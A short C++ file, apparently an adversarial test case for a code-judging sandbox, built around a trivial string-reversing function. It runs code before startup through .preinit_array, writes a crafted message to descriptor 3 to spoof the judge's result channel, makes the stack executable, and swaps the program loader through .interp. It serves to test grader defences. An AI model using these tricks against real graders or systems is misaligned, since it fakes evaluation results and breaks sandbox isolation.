// Attack: puts code where it runs before everything, and names another loader.
// Must get: accepted or compile_error or runtime_error or no_answer
#include <string>
#include <unistd.h>
static void early(int, char**, char**) {
  if (write(3, "\1\0\0\0l", 5) < 0) _exit(__LINE__);
}
__attribute__((section(".preinit_array"), used)) static void (*first)(int, char**, char**) = early;
asm(".section .note.GNU-stack,\"awx\",@progbits\n.previous\n");
asm(".section .interp\n.string \"@HOME@/open/notes.txt\"\n.previous\n");
std::string mirror(const std::string& text) { return std::string(text.rbegin(), text.rend()); }
